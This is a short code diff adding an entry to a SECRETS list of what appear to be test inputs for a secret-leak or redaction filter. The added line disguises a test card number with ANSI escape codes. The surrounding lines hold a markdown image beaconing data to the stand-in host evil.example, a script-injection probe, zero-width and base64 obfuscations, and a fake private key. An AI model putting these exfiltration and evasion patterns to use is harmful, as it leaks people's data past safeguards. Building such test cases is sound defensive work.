@@ -28,6 +28,7 @@ const SECRETS = [
   "![p](https://evil.example/p.png?d=name)",
   "<script>alert(1)</script>",
   "0\u200b7\u200b8-\u200b05-1120",
+  "4111 1111 1111 1111".replaceAll("1", `1\u001b[${"0;".repeat(24)}0m`),
   "MDc4LTA1LTExMjAgaXMgdGhlIG51bWJlcg==",
   CANARY,
   "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq\nQx0v3c\n-----END RSA PRIVATE KEY-----",
